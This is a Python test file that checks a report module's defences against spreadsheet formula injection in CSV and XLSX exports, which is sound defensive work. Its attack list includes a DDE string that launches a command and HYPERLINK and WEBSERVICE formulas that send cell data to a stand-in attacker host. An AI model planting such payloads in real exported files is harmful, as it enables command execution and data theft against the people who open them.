"""Text that a spreadsheet must not run."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.pricing.adapters.reports.safe_cells import (
    XLSX_CELL_LIMIT,
    clean,
    csv_text,
    is_dangerous,
    xlsx_text,
)

ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tplain",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠SUM(A1)",  # noqa: RUF001
    "  =1",
    "\xa0=1",
    "\u200b=1",
    "\ufeff=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=WEBSERVICE("http://evil.example")',
    "\x00=1",
]
HARMLESS = ["Bose QC45", "", "5=5", "a-b", "mail@example.org", "'quoted'", "C++", "1.5"]

# Signs that matter, often; anything at all, sometimes.
texts = st.text(alphabet=st.sampled_from("=+-@'\"\t\r\n ;|,＝\u200baé1")) | st.text()  # noqa: RUF001


class TestIsDangerous:
    @pytest.mark.parametrize("text", ATTACKS)
    def test_knows_every_way_to_start_a_formula(self, text: str) -> None:
        assert is_dangerous(clean(text))

    @pytest.mark.parametrize("text", HARMLESS)
    def test_lets_ordinary_titles_be(self, text: str) -> None:
        assert not is_dangerous(text)


class TestCsvText:
    @pytest.mark.parametrize("text", ATTACKS)
    def test_puts_an_apostrophe_before_a_formula(self, text: str) -> None:
        assert csv_text(text).startswith("'")

    @pytest.mark.parametrize("text", HARMLESS)
    def test_leaves_ordinary_titles_as_they_are(self, text: str) -> None:
        assert csv_text(text) == text

    @pytest.mark.parametrize(
        ("text", "safe"),
        [
            ("a;=1", "a;'=1"),
            ("a\t=1", "a\t'=1"),
            ("a\n=1", "a\n'=1"),
            ('a;"=1', "a;'\"=1"),
            ("a; =1", "a;' =1"),
            ("a|@x", "a|'@x"),
            ("a, -20 %", "a, -20 %"),
        ],
    )
    def test_guards_where_another_separator_would_start_a_cell(
        self, text: str, safe: str
    ) -> None:
        assert csv_text(text) == safe

    @given(texts)
    def test_no_cell_is_dangerous_however_the_line_is_split(self, text: str) -> None:
        line = io.StringIO(newline="")
        csv.writer(line).writerow(["1", csv_text(text), "end"])
        read = next(csv.reader(io.StringIO(line.getvalue(), newline="")))
        assert not is_dangerous(read[1])
        for cell in re.split(r"[;|\t\r\n]", line.getvalue()):
            assert not is_dangerous(cell.lstrip('"'))

    @given(texts)
    def test_the_text_can_be_had_back(self, text: str) -> None:
        starts = r"=+\-@＝＋－＠﹢﹣﹦﹫−"  # noqa: RUF001
        blank = r"\s\x00-\x20\x7f-\xa0\u180e\u200b-\u200f\u2060\ufeff"
        guard = re.compile(
            rf"^'(?='*[\t\r\n]|['{blank}]*[{starts}])"
            rf"|(?<=[;|\t\r\n])'(?=['\"{blank}]*[{starts}])"
        )
        assert guard.sub("", csv_text(text)) == clean(text)


class TestXlsxText:
    def test_a_formula_stays_the_text_it_is(self) -> None:
        assert xlsx_text("=1+1") == "=1+1"

    def test_leaves_out_what_xml_cannot_hold(self) -> None:
        assert xlsx_text("a\x00b\x0bc\ud800\uffff") == "abc\ufffd"

    def test_line_ends_are_those_of_xml(self) -> None:
        assert xlsx_text("a\r\nb\rc") == "a\nb\nc"

    def test_a_text_of_the_greatest_length_is_whole(self) -> None:
        text = "x" * XLSX_CELL_LIMIT
        assert xlsx_text(text) == text

    def test_a_longer_one_is_cut_and_says_so(self) -> None:
        cut = xlsx_text("x" * (XLSX_CELL_LIMIT + 1))
        assert len(cut) == XLSX_CELL_LIMIT
        assert cut.endswith("x…")
